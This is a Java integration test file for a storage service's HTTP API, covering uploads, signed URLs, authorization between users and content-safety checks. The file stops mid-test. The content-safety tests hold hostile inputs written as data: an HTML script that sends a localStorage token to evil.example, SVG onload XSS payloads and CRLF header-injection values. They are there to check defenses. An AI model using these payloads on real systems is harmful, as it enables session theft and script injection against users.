package io.slmgen.storage;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.Test;

import io.quarkus.arc.Arc;
import io.restassured.specification.RequestSpecification;
import io.slmgen.shared.testing.TestDatabase;
import io.slmgen.shared.testing.TokenMinter;
import io.slmgen.storage.blob.BlobStore;
import io.slmgen.storage.service.OrphanSweeper;
import io.slmgen.storage.service.TempSweeper;

/**
 * storage-service over HTTP against a real PostgreSQL: every test here runs once per blob backend,
 * {@link StorageResourceTest} (local filesystem under a temporary STORAGE_ROOT) and
 * {@link S3StorageResourceTest} (S3 against a real S3 API server, S3Proxy). What differs between the
 * backends - how staged leftovers are made, counted and found - is behind the abstract hooks.
 * Both run with a per-user quota of {@value #QUOTA_MIB} MiB.
 */
abstract class StorageContract {

    static final int QUOTA_MIB = 7;
    static final int MIB = 1024 * 1024;

    static final String ANON = TokenMinter.anonKey();
    static final String SERVICE = TokenMinter.serviceKey();
    static final String NDJSON = "application/x-ndjson";

    /**
     * A bean of the service under test, looked up rather than injected: the *IT forms (which run the built
     * artifact and refuse @Inject) extend the concrete classes too, and leave out the tests that use it.
     */
    static <T> T bean(Class<T> type) {
        return Arc.container().instance(type).get();
    }

    // ---- what differs between the blob backends ----

    /** Staged blobs left in the store (local: temp files; S3: staging markers and unfinished multipart uploads). */
    abstract long stagedCount() throws Exception;

    /** Fails unless everything the store holds is under its own areas (objects/ and staging/). */
    abstract void assertNothingOutsideTheStore() throws Exception;

    /** Leaves a staged blob as an upload interrupted by a crash would (stale: as one from long ago). */
    abstract void stageLeftover(String bucket, String version, String content, boolean stale) throws Exception;

    /** Waits until the leftovers staged so far count as stale (nothing to wait for when they were made old). */
    abstract void ageLeftovers() throws Exception;

    /** Whether a leftover staged by {@link #stageLeftover} is still staged. */
    abstract boolean leftoverExists(String bucket, String version) throws Exception;

    /**
     * Whether the store holds the committed bytes of this object version, read from the store itself
     * (not through the service's BlobStore bean), so the *IT forms against the built artifact check it too.
     */
    abstract boolean blobStored(String bucket, String version) throws Exception;

    static {
        io.restassured.RestAssured.config = io.restassured.RestAssured.config().encoderConfig(
                io.restassured.config.EncoderConfig.encoderConfig()
                        .encodeContentTypeAs(NDJSON, io.restassured.http.ContentType.TEXT)
                        .encodeContentTypeAs("multipart/form-data", io.restassured.http.ContentType.TEXT));
    }

    record User(UUID id, String token) {
    }

    static User newUser() {
        UUID id = UUID.randomUUID();
        return new User(id, TokenMinter.user(id));
    }

    static RequestSpecification as(User u) {
        return given().header("apikey", ANON).header("Authorization", "Bearer " + u.token());
    }

    static RequestSpecification anon() {
        return given().header("apikey", ANON);
    }

    static RequestSpecification service() {
        return given().header("apikey", SERVICE).header("Authorization", "Bearer " + SERVICE);
    }

    static void upload(User u, String bucket, String path, String type, byte[] body) {
        as(u).contentType(type).body(body).post("/storage/v1/object/" + bucket + "/" + path)
                .then().statusCode(200).body("Key", equalTo(bucket + "/" + path));
    }


    // ---- upload / download / info / list / delete ----

    @Test
    void userUploadsDownloadsAndDeletesOwnDataset() throws Exception {
        User a = newUser();
        String path = a.id() + "/job1/train.jsonl";
        byte[] body = "{\"messages\":[]}\n{\"messages\":[]}\n".getBytes(StandardCharsets.UTF_8);
        String id = as(a).contentType(NDJSON).body(body).post("/storage/v1/object/datasets/" + path)
                .then().statusCode(200).body("Key", equalTo("datasets/" + path)).extract().path("Id");

        byte[] got = as(a).get("/storage/v1/object/authenticated/datasets/" + path).then().statusCode(200)
                .header("Content-Type", startsWith(NDJSON)).header("Content-Length", "32")
                .header("ETag", "\"" + md5(body) + "\"").extract().asByteArray();
        assertArrayEquals(body, got);
        as(a).get("/storage/v1/object/datasets/" + path).then().statusCode(200);

        as(a).get("/storage/v1/object/info/datasets/" + path).then().statusCode(200)
                .body("id", equalTo(id)).body("size", equalTo(32)).body("content_type", equalTo(NDJSON))
                .body("etag", equalTo("\"" + md5(body) + "\"")).body("bucket_id", equalTo("datasets"));

        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement();
             ResultSet r = s.executeQuery("select owner, owner_id, metadata->>'size', metadata->>'mimetype', "
                     + "metadata->>'cacheControl', path_tokens[3] from storage.objects where id = '" + id + "'")) {
            assertTrue(r.next());
            assertEquals(a.id().toString(), r.getString(1));
            assertEquals(a.id().toString(), r.getString(2));
            assertEquals("32", r.getString(3));
            assertEquals(NDJSON, r.getString(4));
            assertEquals("no-cache", r.getString(5));
            assertEquals("train.jsonl", r.getString(6));
        }

        String version = dbString("select version from storage.objects where id = '" + id + "'");
        assertTrue(blobStored("datasets", version));
        as(a).delete("/storage/v1/object/datasets/" + path).then().statusCode(200)
                .body("message", equalTo("Successfully deleted"));
        as(a).get("/storage/v1/object/authenticated/datasets/" + path).then().statusCode(400)
                .body("statusCode", equalTo("404")).body("error", equalTo("not_found"))
                .body("code", equalTo("NoSuchKey")).body("message", equalTo("Object not found"));
        as(a).delete("/storage/v1/object/datasets/" + path).then().statusCode(400).body("statusCode", equalTo("404"));
        assertFalse(blobStored("datasets", version), "the blob went with its row");
    }

    @Test
    void duplicateWithoutUpsertIsA409ShapedErrorAndUpsertReplaces() {
        User a = newUser();
        String path = a.id() + "/job/n.ipynb";
        as(a).contentType("application/x-ipynb+json").header("x-upsert", "true").body("{\"v\":1}")
                .post("/storage/v1/object/notebooks/" + path).then().statusCode(200);
        as(a).contentType("application/x-ipynb+json").body("{\"v\":2}")
                .post("/storage/v1/object/notebooks/" + path).then().statusCode(400)
                .body("statusCode", equalTo("409")).body("error", equalTo("Duplicate"))
                .body("code", equalTo("ResourceAlreadyExists"))
                .body("message", equalTo("The resource already exists"));
        as(a).contentType("application/x-ipynb+json").header("x-upsert", "true").body("{\"v\":3}")
                .post("/storage/v1/object/notebooks/" + path).then().statusCode(200);
        as(a).get("/storage/v1/object/authenticated/notebooks/" + path).then().statusCode(200)
                .body(equalTo("{\"v\":3}"));
        as(a).contentType("application/x-ipynb+json").body("{\"v\":4}")
                .put("/storage/v1/object/notebooks/" + path).then().statusCode(200);
        as(a).get("/storage/v1/object/notebooks/" + path).then().statusCode(200).body(equalTo("{\"v\":4}"));
        // our additive policy: owners delete their notebooks
        as(a).delete("/storage/v1/object/notebooks/" + path).then().statusCode(200);
    }

    @Test
    void rangeEtagAndHead() {
        User a = newUser();
        String path = a.id() + "/r.txt";
        upload(a, "datasets", path, "text/plain", "0123456789".getBytes(StandardCharsets.UTF_8));
        String etag = as(a).get("/storage/v1/object/datasets/" + path).then().statusCode(200)
                .header("Accept-Ranges", "bytes").extract().header("ETag");
        assertEquals("\"781e5e245d69b566979b86e28d23f2c7\"", etag); // md5("0123456789")
        as(a).header("Range", "bytes=2-5").get("/storage/v1/object/datasets/" + path).then().statusCode(206)
                .header("Content-Range", "bytes 2-5/10").header("Content-Length", "4").body(equalTo("2345"));
        as(a).header("Range", "bytes=-3").get("/storage/v1/object/datasets/" + path).then().statusCode(206)
                .body(equalTo("789"));
        as(a).header("Range", "bytes=20-").get("/storage/v1/object/datasets/" + path).then().statusCode(416)
                .body("statusCode", equalTo("416"));
        as(a).header("If-None-Match", etag).get("/storage/v1/object/datasets/" + path).then().statusCode(304)
                .header("ETag", etag);
        as(a).header("If-None-Match", "\"other\"").get("/storage/v1/object/datasets/" + path).then().statusCode(200);
        as(a).head("/storage/v1/object/datasets/" + path).then().statusCode(200)
                .header("Content-Length", "10").header("ETag", etag);
        as(a).head("/storage/v1/object/datasets/" + a.id() + "/missing").then().statusCode(400);
    }

    @Test
    void listShowsEntriesRelativeToThePrefixWithFolders() {
        User a = newUser();
        String u = a.id().toString();
        upload(a, "datasets", u + "/b.jsonl", NDJSON, "b".getBytes());
        upload(a, "datasets", u + "/a.jsonl", NDJSON, "aa".getBytes());
        upload(a, "datasets", u + "/job1/x.jsonl", NDJSON, "x".getBytes());
        upload(a, "datasets", u + "/job2/y.jsonl", NDJSON, "y".getBytes());

        as(a).contentType("application/json")
                .body(Map.of("prefix", u, "limit", 100, "offset", 0, "sortBy", Map.of("column", "name", "order", "asc")))
                .post("/storage/v1/object/list/datasets").then().statusCode(200)
                .body("name", contains("a.jsonl", "b.jsonl", "job1", "job2"))
                .body("[2].id", nullValue()).body("[2].metadata", nullValue())
                .body("[0].metadata.size", equalTo(2)).body("[0].metadata.mimetype", equalTo(NDJSON));
        as(a).contentType("application/json").body(Map.of("prefix", u + "/", "limit", 2, "offset", 1,
                        "sortBy", Map.of("column", "name", "order", "desc")))
                .post("/storage/v1/object/list/datasets").then().statusCode(200)
                .body("name", contains("job1", "b.jsonl"));
        as(a).contentType("application/json").body(Map.of("prefix", u, "search", "JOB"))
                .post("/storage/v1/object/list/datasets").then().statusCode(200)
                .body("name", contains("job1", "job2"));
        as(a).contentType("application/json").body(Map.of("prefix", u + "/job1"))
                .post("/storage/v1/object/list/datasets").then().statusCode(200)
                .body("name", contains("x.jsonl"));
        as(a).contentType("application/json").body(Map.of("prefix", "", "sortBy", Map.of("column", "size")))
                .post("/storage/v1/object/list/datasets").then().statusCode(400).body("statusCode", equalTo("400"));

        as(a).contentType("application/json").body(Map.of("prefixes", List.of(u + "/a.jsonl", u + "/b.jsonl", u + "/nope")))
                .delete("/storage/v1/object/datasets").then().statusCode(200)
                .body("name", containsInAnyOrder(u + "/a.jsonl", u + "/b.jsonl"))
                .body("[0].bucket_id", equalTo("datasets"));
        as(a).contentType("application/json").body(Map.of("prefix", u))
                .post("/storage/v1/object/list/datasets").then().statusCode(200).body("name", contains("job1", "job2"));
    }

    @Test
    void moveAndCopyWithinOwnFolder() {
        User a = newUser();
        String u = a.id().toString();
        upload(a, "datasets", u + "/m.jsonl", NDJSON, "move me".getBytes());
        as(a).contentType("application/json")
                .body(Map.of("bucketId", "datasets", "sourceKey", u + "/m.jsonl", "destinationKey", u + "/moved/m.jsonl"))
                .post("/storage/v1/object/move").then().statusCode(200).body("message", equalTo("Successfully moved"));
        as(a).get("/storage/v1/object/datasets/" + u + "/m.jsonl").then().statusCode(400);
        as(a).get("/storage/v1/object/datasets/" + u + "/moved/m.jsonl").then().statusCode(200).body(equalTo("move me"));

        as(a).contentType("application/json")
                .body(Map.of("bucketId", "datasets", "sourceKey", u + "/moved/m.jsonl", "destinationKey", u + "/c.jsonl"))
                .post("/storage/v1/object/copy").then().statusCode(200).body("Key", equalTo("datasets/" + u + "/c.jsonl"));
        as(a).delete("/storage/v1/object/datasets/" + u + "/moved/m.jsonl").then().statusCode(200);
        as(a).get("/storage/v1/object/datasets/" + u + "/c.jsonl").then().statusCode(200).body(equalTo("move me"));
        as(a).contentType("application/json")
                .body(Map.of("bucketId", "datasets", "sourceKey", u + "/nope", "destinationKey", u + "/x"))
                .post("/storage/v1/object/move").then().statusCode(400).body("statusCode", equalTo("404"));
    }

    // ---- authorization by PostgreSQL ----

    @Test
    void userBCannotTouchUserAsObjects() throws Exception {
        User a = newUser();
        User b = newUser();
        String path = a.id() + "/secret.jsonl";
        upload(a, "datasets", path, NDJSON, "A's data".getBytes());
        upload(b, "datasets", b.id() + "/mine.jsonl", NDJSON, "B's data".getBytes());

        // read
        as(b).get("/storage/v1/object/authenticated/datasets/" + path).then().statusCode(400)
                .body("statusCode", equalTo("404"));
        as(b).get("/storage/v1/object/info/datasets/" + path).then().statusCode(400).body("statusCode", equalTo("404"));
        anon().get("/storage/v1/object/datasets/" + path).then().statusCode(400).body("statusCode", equalTo("404"));
        anon().get("/storage/v1/object/public/datasets/" + path).then().statusCode(400).body("statusCode", equalTo("404"));
        // list
        as(b).contentType("application/json").body(Map.of("prefix", a.id().toString()))
                .post("/storage/v1/object/list/datasets").then().statusCode(200).body("$", empty());
        // overwrite, with and without upsert
        as(b).contentType(NDJSON).body("evil").post("/storage/v1/object/datasets/" + path).then().statusCode(400)
                .body("statusCode", equalTo("403")).body("error", equalTo("Unauthorized"));
        as(b).contentType(NDJSON).header("x-upsert", "true").body("evil").post("/storage/v1/object/datasets/" + path)
                .then().statusCode(400).body("statusCode", equalTo("403"));
        as(b).contentType(NDJSON).body("evil").put("/storage/v1/object/datasets/" + path).then().statusCode(400)
                .body("statusCode", equalTo("403"));
        // move onto A's folder, copy out of it
        as(b).contentType("application/json").body(Map.of("bucketId", "datasets", "sourceKey", b.id() + "/mine.jsonl",
                "destinationKey", a.id() + "/planted.jsonl")).post("/storage/v1/object/move").then().statusCode(400)
                .body("statusCode", equalTo("403"));
        as(b).contentType("application/json").body(Map.of("bucketId", "datasets", "sourceKey", path,
                "destinationKey", b.id() + "/stolen.jsonl")).post("/storage/v1/object/copy").then().statusCode(400)
                .body("statusCode", equalTo("404"));
        as(b).contentType("application/json").body(Map.of("bucketId", "datasets", "sourceKey", b.id() + "/mine.jsonl",
                "destinationKey", a.id() + "/planted.jsonl")).post("/storage/v1/object/copy").then().statusCode(400)
                .body("statusCode", equalTo("403"));
        // sign
        as(b).contentType("application/json").body(Map.of("expiresIn", 60))
                .post("/storage/v1/object/sign/datasets/" + path).then().statusCode(400).body("statusCode", equalTo("404"));
        as(b).contentType("application/json").body(Map.of("expiresIn", 60, "paths", List.of(path, b.id() + "/mine.jsonl")))
                .post("/storage/v1/object/sign/datasets").then().statusCode(200)
                .body("[0].signedURL", nullValue()).body("[0].path", equalTo(path))
                .body("[0].error", equalTo("Either the object does not exist or you do not have access to it"))
                .body("[1].error", nullValue()).body("[1].signedURL", startsWith("/object/sign/datasets/" + b.id() + "/mine.jsonl?token="));
        as(b).post("/storage/v1/object/upload/sign/datasets/" + a.id() + "/via-signed.jsonl").then().statusCode(400)
                .body("statusCode", equalTo("403"));
        // delete, one and many
        as(b).delete("/storage/v1/object/datasets/" + path).then().statusCode(400).body("statusCode", equalTo("404"));
        as(b).contentType("application/json").body(Map.of("prefixes", List.of(path)))
                .delete("/storage/v1/object/datasets").then().statusCode(200).body("$", empty());

        // nothing changed, nothing planted, nothing left staged
        as(a).get("/storage/v1/object/datasets/" + path).then().statusCode(200).body(equalTo("A's data"));
        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement();
             ResultSet r = s.executeQuery("select count(*) from storage.objects where name like '" + a.id() + "/%'")) {
            r.next();
            assertEquals(1, r.getInt(1));
        }
        assertEquals(0, stagedCount());
    }

    @Test
    void avatarsArePublicAndNeedAnAuthenticatedUploader() {
        User a = newUser();
        User b = newUser();
        String path = a.id() + "/avatar.png";
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', 1, 2, 3};
        anon().contentType("image/png").body(png).post("/storage/v1/object/avatars/" + path).then().statusCode(400)
                .body("statusCode", equalTo("403"));
        upload(a, "avatars", path, "image/png", png);
        byte[] got = given().get("/storage/v1/object/public/avatars/" + path).then().statusCode(200)
                .header("Content-Type", "image/png").extract().asByteArray();
        assertArrayEquals(png, got);
        anon().get("/storage/v1/object/avatars/" + path).then().statusCode(200);
        // B may not replace A's avatar (update policy is own folder only)
        as(b).contentType("image/png").header("x-upsert", "true").body(new byte[] {1})
                .post("/storage/v1/object/avatars/" + path).then().statusCode(400).body("statusCode", equalTo("403"));
        as(a).contentType("image/png").header("x-upsert", "true").body(new byte[] {9})
                .post("/storage/v1/object/avatars/" + path).then().statusCode(200);
        // MIME types are the bucket's
        as(a).contentType("text/html").body("<x>").post("/storage/v1/object/avatars/" + a.id() + "/x.html")
                .then().statusCode(400).body("statusCode", equalTo("415")).body("error", equalTo("invalid_mime_type"));
    }

    // ---- signed URLs ----

    @Test
    void signedDownloadUrlsServeWithoutAuthAndRejectForgeries() {
        User a = newUser();
        String path = a.id() + "/job9/notebook.ipynb";
        as(a).contentType("application/x-ipynb+json").header("x-upsert", "true").body("{\"cells\":[]}")
                .post("/storage/v1/object/notebooks/" + path).then().statusCode(200);
        String signed = as(a).contentType("application/json").body(Map.of("expiresIn", 3600))
                .post("/storage/v1/object/sign/notebooks/" + path).then().statusCode(200)
                .body("signedURL", startsWith("/object/sign/notebooks/" + path + "?token="))
                .extract().path("signedURL");
        String token = signed.substring(signed.indexOf("token=") + 6);
        given().get("/storage/v1" + signed).then().statusCode(200).body(equalTo("{\"cells\":[]}"))
                .header("Content-Type", startsWith("application/x-ipynb+json"));
        // HEAD of the same link: the headers of the GET, no body (it once answered 400, "sign" read as a bucket)
        given().head("/storage/v1" + signed).then().statusCode(200).header("Content-Length", "12")
                .header("Content-Type", startsWith("application/x-ipynb+json")).header("X-Content-Type-Options", "nosniff");
        given().get("/storage/v1" + signed + "&download=nb.ipynb").then().statusCode(200)
                .header("Content-Disposition", "attachment; filename=\"nb.ipynb\"; filename*=UTF-8''nb.ipynb")
                .header("X-Content-Type-Options", "nosniff");

        // tampered signature, another object's path, expired, missing
        String tampered = token.substring(0, token.length() - 2) + (token.endsWith("AA") ? "BB" : "AA");
        given().get("/storage/v1/object/sign/notebooks/" + path + "?token=" + tampered).then().statusCode(400)
                .body("statusCode", equalTo("400")).body("error", equalTo("InvalidJWT"));
        given().get("/storage/v1/object/sign/notebooks/" + a.id() + "/job9/other.ipynb?token=" + token)
                .then().statusCode(400).body("error", equalTo("InvalidSignature"));
        long now = Instant.now().getEpochSecond();
        String expired = TokenMinter.hs256(Map.of("url", "notebooks/" + path, "iat", now - 100, "exp", now - 10));
        given().get("/storage/v1/object/sign/notebooks/" + path + "?token=" + expired).then().statusCode(400)
                .body("message", equalTo("jwt expired"));
        String otherSecret = TokenMinter.hs256(Map.of("url", "notebooks/" + path, "iat", now, "exp", now + 60),
                "another-secret-of-at-least-32-characters!!");
        given().get("/storage/v1/object/sign/notebooks/" + path + "?token=" + otherSecret).then().statusCode(400);
        given().get("/storage/v1/object/sign/notebooks/" + path).then().statusCode(400);
        // interoperability: a token made like storage-api makes it (HS256 over {url, iat, exp}) is accepted
        String theirs = TokenMinter.hs256(Map.of("url", "notebooks/" + path, "iat", now, "exp", now + 60));
        given().get("/storage/v1/object/sign/notebooks/" + path + "?token=" + theirs).then().statusCode(200);
    }

    @Test
    void signedUploadUrlUploadsAsTheSigner() throws Exception {
        User a = newUser();
        String path = a.id() + "/signed/up.jsonl";
        Map<String, String> res = as(a).post("/storage/v1/object/upload/sign/datasets/" + path).then().statusCode(200)
                .body("url", startsWith("/object/upload/sign/datasets/" + path + "?token=")).extract().as(Map.class);
        String token = res.get("token");
        assertTrue(res.get("url").endsWith("?token=" + token));
        given().contentType(NDJSON).body("{\"a\":1}\n").put("/storage/v1/object/upload/sign/datasets/" + path + "?token=" + token)
                .then().statusCode(200).body("Key", equalTo("datasets/" + path));
        as(a).get("/storage/v1/object/datasets/" + path).then().statusCode(200).body(equalTo("{\"a\":1}\n"));
        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement();
             ResultSet r = s.executeQuery("select owner from storage.objects where bucket_id = 'datasets' and name = '" + path + "'")) {
            assertTrue(r.next());
            assertEquals(a.id().toString(), r.getString(1));
        }
        // the token is for that path only, and without upsert a second use is a duplicate
        given().contentType(NDJSON).body("x").put("/storage/v1/object/upload/sign/datasets/" + a.id() + "/other?token=" + token)
                .then().statusCode(400).body("error", equalTo("InvalidSignature"));
        given().contentType(NDJSON).body("x").put("/storage/v1/object/upload/sign/datasets/" + path + "?token=" + token)
                .then().statusCode(400).body("statusCode", equalTo("409"));
    }

    // ---- multipart (storage-js Blob/File uploads) ----

    @Test
    void multipartUploadWithEmptyFieldNameAndCacheControl() {
        User a = newUser();
        String path = a.id() + "/mp/data.json";
        String boundary = "----formdata-undici-0123456789";
        String body = "--" + boundary + "\r\n"
                + "Content-Disposition: form-data; name=\"cacheControl\"\r\n\r\n"
                + "3600\r\n"
                + "--" + boundary + "\r\n"
                + "Content-Disposition: form-data; name=\"\"; filename=\"blob\"\r\n"
                + "Content-Type: application/json\r\n\r\n"
                + "{\"x\":\"line1\\r\\n--not-a-boundary\"}\r\n"
                + "--" + boundary + "--\r\n";
        as(a).contentType("multipart/form-data; boundary=" + boundary).body(body.getBytes(StandardCharsets.UTF_8))
                .post("/storage/v1/object/datasets/" + path).then().statusCode(200).body("Key", equalTo("datasets/" + path));
        as(a).get("/storage/v1/object/datasets/" + path).then().statusCode(200)
                .header("Content-Type", startsWith("application/json")).header("Cache-Control", "max-age=3600")
                .body(equalTo("{\"x\":\"line1\\r\\n--not-a-boundary\"}"));
        as(a).contentType("multipart/form-data; boundary=" + boundary).body("--" + boundary + "\r\ngarbage")
                .post("/storage/v1/object/datasets/" + a.id() + "/bad.json").then().statusCode(400)
                .body("statusCode", equalTo("400"));
    }

    // ---- content safety (SPEC §9): the type checked is the type stored; nothing is served as an active page ----

    static final String BOUNDARY = "----slmgen-test-boundary-7d3f";

    static String field(String name, String value) {
        return "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n";
    }

    static String filePart(String type, String content) {
        return "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"\"; filename=\"blob\"\r\nContent-Type: " + type
                + "\r\n\r\n" + content + "\r\n";
    }

    static String multipart(String... parts) {
        return String.join("", parts) + "--" + BOUNDARY + "--\r\n";
    }

    static final String HTML = "<html><body><script>fetch('//evil.example/?'+localStorage.getItem('sb'))</script></body></html>";

    @Test
    void multipartContentTypeFieldAfterTheFileCannotChangeTheCheckedType() throws Exception {
        User a = newUser();
        String path = a.id() + "/xss.png";
        // the reported attack: the file part passes the avatars check as image/png, a contentType field
        // sent after it used to be what was stored (and served inline)
        as(a).contentType("multipart/form-data; boundary=" + BOUNDARY)
                .body(multipart(filePart("image/png", HTML), field("contentType", "text/html")))
                .post("/storage/v1/object/avatars/" + path).then().statusCode(200);
        assertEquals("image/png", dbString("select metadata->>'mimetype' from storage.objects where bucket_id = 'avatars' "
                + "and name = '" + path + "'"));
        given().get("/storage/v1/object/public/avatars/" + path).then().statusCode(200)
                .header("Content-Type", "image/png").header("X-Content-Type-Options", "nosniff");
        // a contentType field before the file is what storage-api stores: so it is what is checked
        as(a).contentType("multipart/form-data; boundary=" + BOUNDARY)
                .body(multipart(field("contentType", "text/html"), filePart("image/png", HTML)))
                .post("/storage/v1/object/avatars/" + a.id() + "/x2.png").then().statusCode(400)
                .body("statusCode", equalTo("415")).body("error", equalTo("invalid_mime_type"));
        as(a).contentType("multipart/form-data; boundary=" + BOUNDARY)
                .body(multipart(field("contentType", "image/svg+xml"), filePart("image/png", "<svg onload=alert(1)/>")))
                .post("/storage/v1/object/avatars/" + a.id() + "/x3.png").then().statusCode(400).body("statusCode", equalTo("415"));
        as(a).contentType("multipart/form-data; boundary=" + BOUNDARY).body(multipart(filePart("text/html", HTML)))
                .post("/storage/v1/object/avatars/" + a.id() + "/x4.png").then().statusCode(400).body("statusCode", equalTo("415"));
        // a declared field wins over the part's own type, and is stored as checked
        as(a).contentType("multipart/form-data; boundary=" + BOUNDARY)
                .body(multipart(field("contentType", "image/png"), filePart("text/html", HTML)))
                .post("/storage/v1/object/avatars/" + a.id() + "/x5.png").then().statusCode(200);
        given().get("/storage/v1/object/public/avatars/" + a.id() + "/x5.png").then().statusCode(200)
                .header("Content-Type", "image/png").header("X-Content-Type-Options", "nosniff");
        // a cacheControl field is sent back as a header on every download: no line breaks in it
        as(a).contentType("multipart/form-data; boundary=" + BOUNDARY)
                .body(multipart(field("cacheControl", "3600\r\nSet-Cookie: sb=stolen"), filePart("image/png", "png")))
                .post("/storage/v1/object/avatars/" + a.id() + "/cc.png").then().statusCode(400).body("statusCode", equalTo("400"));
        // raw bodies and signed uploads: the header is the type, checked
        as(a).contentType("image/svg+xml").body("<svg onload=alert(1)/>".getBytes(StandardCharsets.UTF_8)).post("/storage/v1/object/avatars/" + a.id() + "/s.svg")
                .then().statusCode(400).body("statusCode", equalTo("415"));
        String token = as(a).post("/storage/v1/object/upload/sign/avatars/" + a.id() + "/signed.png").then().statusCode(200)
                .extract().path("token");
        given().contentType("text/html").body(HTML.getBytes(StandardCharsets.UTF_8)).put("/storage/v1/object/upload/sign/avatars/" + a.id() + "/signed.png?token=" + token)
                .then().statusCode(400).body("statusCode", equalTo("415"));
        given().contentType("multipart/form-data; boundary=" + BOUNDARY)
                .body(multipart(filePart("image/png", HTML), field("contentType", "text/html")))
                .put("/storage/v1/object/upload/sign/avatars/" + a.id() + "/signed.png?token=" + token).then().statusCode(200);
        given().get("/storage/v1/object/public/avatars/" + a.id() + "/signed.png").then().statusCode(200)
                .header("Content-Type", "image/png");
        assertEquals(0, stagedCount());
    }

    @Test
    void everyDownloadSendsNosniffAndActiveTypesAreSandboxedAttachments() throws Exception {
        String bucket = "open-" + UUID.randomUUID().toString().substring(0, 8);
        service().contentType("application/json").body(Map.of("id", bucket, "name", bucket, "public", true))
                .post("/storage/v1/bucket").then().statusCode(200);
        Map<String, String> active = new java.util.LinkedHashMap<>();
        active.put("page.html", "text/html");
        active.put("upper.html", "Text/HTML; charset=utf-8");
        active.put("page.xhtml", "application/xhtml+xml");
        active.put("pic.svg", "image/svg+xml");
        active.put("doc.xml", "text/xml");
        active.put("app.xml", "application/xml");
        active.put("run.js", "text/javascript");
        active.put("run2.js", "application/javascript");
        active.put("doc.pdf", "application/pdf");
        active.put("style.css", "text/css");
        active.put("what.bin", "application/x-unknown-thing");
        Map<String, String> inline = new java.util.LinkedHashMap<>();
        inline.put("pic.png", "image/png");
        inline.put("notes.txt", "text/plain");
        inline.put("data.json", "application/json");
        inline.put("train.jsonl", "application/x-ndjson");
        inline.put("clip.mp4", "video/mp4");
        Map<String, String> all = new java.util.LinkedHashMap<>(active);
        all.putAll(inline);
        for (var e : all.entrySet()) {
            service().contentType(e.getValue()).body(HTML.getBytes(StandardCharsets.UTF_8))
                    .post("/storage/v1/object/" + bucket + "/f/" + e.getKey())
                    .then().statusCode(200);
        }
        for (var e : all.entrySet()) {
            String name = "f/" + e.getKey();
            boolean isActive = active.containsKey(e.getKey());
            String signed = service().contentType("application/json").body(Map.of("expiresIn", 60))
                    .post("/storage/v1/object/sign/" + bucket + "/" + name).then().statusCode(200).extract().path("signedURL");
            List<io.restassured.response.Response> responses = List.of(
                    given().get("/storage/v1/object/public/" + bucket + "/" + name),
                    service().get("/storage/v1/object/" + bucket + "/" + name),
                    service().get("/storage/v1/object/authenticated/" + bucket + "/" + name),
                    given().get("/storage/v1" + signed),
                    given().header("Range", "bytes=0-5").get("/storage/v1/object/public/" + bucket + "/" + name),
                    given().head("/storage/v1/object/public/" + bucket + "/" + name),
                    service().head("/storage/v1/object/authenticated/" + bucket + "/" + name),
                    given().head("/storage/v1" + signed));
            for (io.restassured.response.Response r : responses) {
                String what = e.getValue() + " " + r.statusLine();
                assertTrue(r.statusCode() == 200 || r.statusCode() == 206, what);
                assertEquals("nosniff", r.header("X-Content-Type-Options"), what);
                assertTrue(r.header("Content-Type").startsWith(e.getValue().split(";")[0].toLowerCase(java.util.Locale.ROOT)), what);
                if (isActive) {
                    assertEquals("default-src 'none'; sandbox", r.header("Content-Security-Policy"), what);
                    assertTrue(r.header("Content-Disposition") != null && r.header("Content-Disposition").startsWith("attachment;"), what);
                } else {
                    assertEquals(null, r.header("Content-Security-Policy"), what);
                    assertEquals(null, r.header("Content-Disposition"), what);
                }
            }
        }
        // 304 and errors carry nosniff too; a name in ?download= cannot break out of its header
        String etag = given().get("/storage/v1/object/public/" + bucket + "/f/pic.png").then().extract().header("ETag");
        given().header("If-None-Match", etag).get("/storage/v1/object/public/" + bucket + "/f/pic.png").then().statusCode(304)
                .header("X-Content-Type-Options", "nosniff");
        given().get("/storage/v1/object/public/" + bucket + "/f/missing").then().statusCode(400)
                .header("X-Content-Type-Options", "nosniff");
        given().queryParam("download", "a\"\r\nSet-Cookie: x=1").get("/storage/v1/object/public/" + bucket + "/f/pic.png")
                .then().statusCode(200).header("Set-Cookie", nullValue())
                .header("Content-Disposition", "attachment; filename=\"a___Set-Cookie: x=1\"; filename*=UTF-8''a%22%0D%0ASet-Cookie%3A%20x%3D1");
        // a malformed type is refused where the bucket does not restrict types (a header the HTTP layer
        // cannot parse is refused there already, as a 400)
        service().contentType("image/png/x").body(new byte[] {'x'}).post("/storage/v1/object/" + bucket + "/f/bad").then().statusCode(400)
                .body("statusCode", org.hamcrest.Matchers.oneOf("400", "415"));
        service().get("/storage/v1/object/" + bucket + "/f/bad").then().statusCode(400).body("statusCode", equalTo("404"));
        service().contentType("multipart/form-data; boundary=" + BOUNDARY).body(multipart(filePart("text/html\"><x", HTML)))
                .post("/storage/v1/object/" + bucket + "/f/bad2").then().statusCode(400).body("statusCode", equalTo("415"));
        service().post("/storage/v1/bucket/" + bucket + "/empty").then().statusCode(200);
        service().delete("/storage/v1/bucket/" + bucket).then().statusCode(200);
    }

    @Test
    void objectsStoredWithAnActiveTypeBeforeTheFixAreServedSandboxed() throws Exception {
        User a = newUser();
        String path = a.id() + "/legacy.png";
        upload(a, "avatars", path, "image/png", HTML.getBytes(StandardCharsets.UTF_8));
        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement()) {
            s.execute("update storage.objects set metadata = jsonb_set(metadata, '{mimetype}', '\"text/html\"') "
                    + "where bucket_id = 'avatars' and name = '" + path + "'");
        }
        given().get("/storage/v1/object/public/avatars/" + path).then().statusCode(200)
